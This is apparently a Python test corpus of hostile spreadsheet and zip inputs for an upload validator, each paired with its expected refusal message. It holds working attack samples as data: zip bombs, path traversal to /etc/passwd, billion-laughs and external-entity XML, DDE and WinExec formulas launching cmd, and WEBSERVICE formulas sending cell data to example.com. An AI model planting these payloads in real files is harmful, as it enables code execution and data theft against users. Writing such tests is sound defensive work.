"""The corpus: name -> what makes the file's bytes, and what its refusal says."""

import random

from tests.receive.hostile import good, zips
from tests.receive.hostile.makers import (
    SHEET1,
    around,
    cell,
    compound,
    declared,
    duplicated,
    later,
    long_sheet,
    ods,
    part,
    related,
    renamed,
    rows,
    sharing,
    table,
    used_often,
    xlsx,
)

SHEET2, BOOK = "xl/worksheets/sheet2.xml", "xl/workbook.xml"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCTYPE = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
SPACES = b" " * 1_000_000
OPENED = good.sheet("").partition(b"<dimension")[0]
MERGE = '<mergeCell ref="A1:XFD1048576"/>'
NAME = '<definedName name="n{}">Inputs!$A$1</definedName>'
TYPE = "application/vnd.ms-office.vbaProject"
XLSM = good.content_types().replace(
    b"openxmlformats-officedocument.spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main"
)
RIGHT = {
    "merges of the whole sheet": xlsx(
        **{SHEET1: good.sheet(good.INPUTS, after=f"<mergeCells>{MERGE}</mergeCells>")}
    ),
    "a hundred thousand merges": later(
        lambda: xlsx(**{SHEET1: good.sheet(good.INPUTS, after=f"<mergeCells>{MERGE * 100_000}</mergeCells>")})
    ),
    "a wrong dimension": xlsx(**{SHEET1: good.sheet(good.INPUTS, before='<dimension ref="A1:XFD1048576"/>')}),
    "a dimension that is none": xlsx(**{SHEET1: good.sheet(good.INPUTS, before='<dimension ref="-1:0"/>')}),
    "columns and rows formatted to the end": xlsx(
        **{SHEET1: good.sheet(good.INPUTS + '<row r="1048576" s="1" customFormat="1"/>', before='<cols><col min="1" max="16384"/></cols>')}
    ),
    "a hyperlink to outside": related("hyperlink", "http://example.com/", "External"),
    "an unknown part": part("custom/anything.dat"),
    "an .ods": lambda: good.packed(good.ods()),
}  # fmt: skip
REFUSED = {
    "nothing at all": (lambda: b"", "empty file"),
    "no zip": (lambda: b"a,b,c\n1,2,3\n", "not a zip file"),
    "a PDF": (lambda: b"%PDF-1.7\n", "a PDF document"),
    "21 MB of zeros": (lambda: b"PK\3\4" + bytes(21 << 20), "at most 20 MB"),
    "a zip cut in the middle": (lambda: good.packed(good.xlsx())[:1500], "incomplete zip file"),
    "a zip cut at its end": (lambda: good.packed(good.xlsx())[:-30], "incomplete zip file"),
    "only the first bytes of a zip": (lambda: b"PK\3\4", "incomplete zip file"),
    "a wrong checksum": (lambda: zips.raw([(n, *zips.deflated(d)[:1], 1, len(d)) for n, d in good.xlsx().items()]), "do not match"),
    "an encrypted workbook": (compound("EncryptionInfo", "EncryptedPackage"), "password-protected"),
    "an .xls": (compound("Root Entry", "Workbook"), r"\.xls workbook"),
    "another compound file": (compound("WordDocument"), "OLE compound file"),
    "an encrypted zip": (lambda: zips.with_flag(good.packed(good.xlsx()), 1), "without a password"),
    "an encrypted .ods": (
        ods(**{"META-INF/manifest.xml": good.manifest("<manifest:encryption-data/>")}), "password-protected"),
    # Names and numbers of members
    "a member above the folder": (renamed("../../etc/passwd"), "leads out"),
    "a member from the root": (renamed("/etc/passwd"), "leads out"),
    "a member above, the Windows way": (renamed("..\\evil.xml"), "no spreadsheet program writes"),
    "a member on a drive": (renamed("C:evil.xml"), "no spreadsheet program writes"),
    "a member twice": (duplicated("xl/twice.xml", "xl/twice.xml"), "duplicated member"),
    "a member twice but for capitals": (duplicated("xl/twice.xml", "xl/TWICE.xml"), "duplicated member"),
    "a million members": (lambda: zips.of_many(1_000_000), "at most 20 MB"),
    "as many members as 20 MB hold": (lambda: zips.of_many(220_000), "220,000 members"),
    "members that share their bytes": (
        lambda: zips.raw([(f"{n}.xml", *packed) for packed in [zips.deflated(SPACES)] for n in range(1000)], shared=True),
        "damaged"),
    # Sizes
    "a zip bomb": (later(lambda: part("xl/media/picture.png", bytes(60_000_000))), "zip bomb"),
    "a bomb of many members": (later(lambda: xlsx(**{f"xl/media/{n}.png": bytes(3_900_000) for n in range(45)})), "160 MB unpacked in all"),
    "500 MB of spaces": (long_sheet((OPENED, 1), (SPACES, 500)), "zip bomb|too large"),
    "a size that lies low": (lambda: zips.with_size(good.packed(good.xlsx()), SHEET1, 100), "record"),
    "a size that lies high": (lambda: zips.with_size(good.packed(good.xlsx()), SHEET1, 100_000), "record"),
    # XML
    "billion laughs": (xlsx(**{SHEET1: f"{DOCTYPE}<x>&l9;</x>".encode()}), "DOCTYPE"),
    "billion laughs in the content types": (xlsx(**{"[Content_Types].xml": f"{DOCTYPE}<x>&l9;</x>".encode()}), "DOCTYPE"),
    "a DOCTYPE where nobody reads": (part("customXml/item1.xml", b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'), "DOCTYPE"),
    "a DOCTYPE in UTF-16": (part("customXml/item1.xml", f"{DOCTYPE}<x/>".encode("utf-16")), "DOCTYPE"),
    "XML in UTF-7": (part("customXml/item1.xml", b'<?xml version="1.0" encoding="UTF-7"?><x/>'), "encoding UTF-7"),
    "a DOCTYPE in EBCDIC": (part("customXml/item1.xml", f"{DOCTYPE}<x/>".encode("cp037")), "invalid XML"),
    "a DOCTYPE in an .ods": (ods(**{"content.xml": f"{DOCTYPE}<x>&l9;</x>".encode()}), "DOCTYPE"),
    "nesting a million deep": (later(lambda: xlsx(**{SHEET1: OPENED + b"<a>" * 1_000_000})), "nested too deep"),
    "four million elements": (long_sheet((OPENED, 1), (b"<a/>" * 100, 40_000)), "too many XML elements|zip bomb"),
    "an attribute of 50 MB": (long_sheet((OPENED + b'<a b="', 1), (bytes(range(97, 123)) * 40_000, 48)), "damaged|zip bomb"),
    "half a million attributes": (
        later(lambda: xlsx(**{SHEET1: OPENED + b"<a " + b" ".join(b'a%d=""' % n for n in range(500_000)) + b"/>"})), "invalid XML"),
    "XML that ends early": (xlsx(**{SHEET1: good.sheet(good.INPUTS)[:-20]}), "invalid XML"),
    # Cells and names
    "a shared text of 10 MB": (later(lambda: xlsx(**{"xl/sharedStrings.xml": good.STRINGS.replace(b"Hourly", random.Random(1).randbytes(5_000_000).hex().encode())})), "too long"),
    "a long text used often": (later(lambda: used_often(20_000, "x" * 30_000)), "too much text|could not be read within"),
    "a long formula shared often": (later(lambda: sharing(20_000, "A1+" * 2_700 + "A1")), "too much text|could not be read within"),
    "too many cells": (later(lambda: used_often(400_010, "x")), "too many cells|could not be read within"),
    "a million defined names": (
        lambda: zips.with_long_member(
            good.xlsx(**{BOOK: None}), BOOK,
            [good.workbook().partition(b"</definedNames>")[0], *(NAME.format(n).encode() for n in range(1_000_000))]),
        "too many defined names|could not be read within"),
    "more sheets than anyone has": (
        xlsx(**{BOOK: good.workbook(sheets="".join(f'<sheet name="s{n}" r:id="rId1"/>' for n in range(5_000)))}), "too many sheets"),
    "two sheets of one name": (
        xlsx(**{BOOK: good.workbook(sheets='<sheet name="A" r:id="rId1"/><sheet name="a" r:id="rId2"/>')}), "unique name"),
    "a sheet that is missing": (xlsx(**{SHEET2: None}), "member is missing"),
    "no sheet": (xlsx(**{BOOK: good.workbook(sheets="")}), "without a sheet"),
    "a row below the last": (rows('<row r="1048577"/>'), "damaged: row 1048577"),
    "a column right of the last": (rows('<row r="1"><c r="XFE1"><v>1</v></c></row>'), "damaged: cell XFE1"),
    "a cell twice": (rows('<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>'), "damaged: cell A1"),
    "a cell in another row": (rows('<row r="1"><c r="A2"><v>1</v></c></row>'), "damaged: cell A2 in row 1"),
    "two values in a cell": (cell("<v>1</v><v>2</v>"), "two values"),
    "an element inside a value": (cell("<v>1<b/>2</v>"), "inside a value"),
    "no number": (cell("<v>nan</v>"), "Inputs!A1"),
    "an infinite number": (cell("<v>1e999</v>"), "Inputs!A1"),
    "a number of a million digits": (cell(f"<v>{'9' * 1_000_000}</v>"), "Inputs!A1"),
    "a shared text that is not there": (cell("<v>99</v>", ' t="s"'), "shared text 99"),
    "a shared text before the first": (cell("<v>-1</v>", ' t="s"'), "shared text -1"),
    "a shared formula that stands nowhere": (cell('<f t="shared" si="7"/>'), "defined nowhere"),
    "a style of ten thousand digits": (cell("<v>x</v>", f' s="{"9" * 10_000}"'), "Inputs!A1"),
    # Dangers
    "VBA": (part("xl/vbaProject.bin"), r"macros \(VBA\)"),
    "VBA under another name": (declared(TYPE), r"macros \(VBA\)"),
    "an .xlsm": (xlsx(**{"[Content_Types].xml": XLSM}), "macro-enabled"),
    "a macro sheet": (part("xl/macrosheets/sheet1.xml", b"<x/>"), "Excel 4.0"),
    "a name that runs a macro": (
        xlsx(**{BOOK: good.workbook('<definedName name="a" xlm="1" function="1">Inputs!$A$1</definedName>')}), "macro function"),
    "a link to a file": (part("xl/externalLinks/externalLink1.xml", b"<x/>"), "links to other files"),
    "a picture from the network": (related("image", "http://example.com/spy.png", "External"), r"a link to outside \(image\)"),
    "an OLE object": (part("xl/embeddings/oleObject1.bin"), "OLE objects"),
    "an OLE object under another name": (related("oleObject", "../harmless.bin"), "OLE objects"),
    "ActiveX": (part("xl/activeX/activeX1.bin"), "ActiveX"),
    "a data connection": (part("xl/connections.xml", b"<x/>"), "data connections"),
    "DDE": (cell("<f>cmd|' /C calc'!A0</f><v>0</v>"), r"Inputs!A1.*\(DDE\)"),
    "a call of a program": (cell('<f>CALL("kernel32","WinExec","JCJ","calc",0)</f>'), r"\(CALL\)"),
    "a web service": (cell('<f>_xlfn.WEBSERVICE("http://example.com/"&amp;A2)</f>'), r"\(WEBSERVICE\)"),
    "DDE in a name": (xlsx(**{BOOK: good.workbook("<definedName name=\"a\">cmd|'/C calc'!A0</definedName>")}), r"\(DDE\)"),
    "a web service in a name": (
        xlsx(**{BOOK: good.workbook('<definedName name="a">WEBSERVICE("http://example.com/")</definedName>')}), r"\(WEBSERVICE\)"),
    "a web service in a validation": (
        around('<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE("http://example.com/"&amp;A2)</formula1>'
               "</dataValidation></dataValidations>"), r"\(WEBSERVICE\), in a validation"),
    "a web service in a format": (
        around('<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://example.com/")=1</formula>'
               "</cfRule></conditionalFormatting>"), r"\(WEBSERVICE\), in a validation or a format"),
    # Other kinds of file
    "an .xlsb": (
        xlsx(**{"_rels/.rels": good.relations(("rId1", "officeDocument", "xl/workbook.bin")), "xl/workbook.bin": b"x"}), r"\.xlsb"),
    "a Word document": (lambda: good.packed({"[Content_Types].xml": good.content_types(), "word/document.xml": b"<x/>"}), "Word"),
    "any other zip": (lambda: good.packed({"holiday.jpg": b"x"}), "not a workbook"),
    # .ods
    "an OpenDocument text": (ods(mimetype=b"application/vnd.oasis.opendocument.text"), "not a spreadsheet"),
    "a cell repeated without end": (
        table('<table:table-row><table:table-cell table:number-columns-repeated="99999999999" office:value-type="float" office:value="1"/></table:table-row>'),
        "repetitions"),
    "a sheet full of one number": (
        table('<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row>'),
        "too many cells"),
    "a billion spaces": (
        table('<table:table-row><table:table-cell office:value-type="string"><text:p><text:s text:c="99999999"/></text:p></table:table-cell></table:table-row>'),
        "too long"),
    "Basic": (ods(**{"Basic/Standard/Module1.xml": b"<x/>"}), "macros"),
    "a script run by an event": (ods(**{"content.xml": good.content(before="<office:scripts><script:event-listener/></office:scripts>")}), "event"),
    "a DDE link of LibreOffice": (
        table('<table:table-row><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/></table:table-row>'), r"\(DDE\)"),
    "a formula over another file": (
        table("<table:table-row><table:table-cell table:formula=\"of:=['file:///etc/passwd'#$Sheet1.A1]\"/></table:table-row>"), "another file"),
    "a web service in a name of an .ods": (
        table('<table:named-expressions><table:named-expression table:name="a" table:expression="of:=WEBSERVICE(&quot;http://example.com/&quot;)"/></table:named-expressions>'),
        r"\(WEBSERVICE\)"),
    "a sheet linked from a file": (table('<table:table-source xlink:href="file:///x.ods" xmlns:xlink="http://www.w3.org/1999/xlink"/>'), "links to other"),
    "an OLE object in an .ods": (
        ods(**{"META-INF/manifest.xml": good.manifest('<manifest:file-entry manifest:full-path="Object 1" manifest:media-type="application/vnd.sun.star.oleobject"/>'), "Object 1": b"x"}),
        "OLE objects"),
}  # fmt: skip
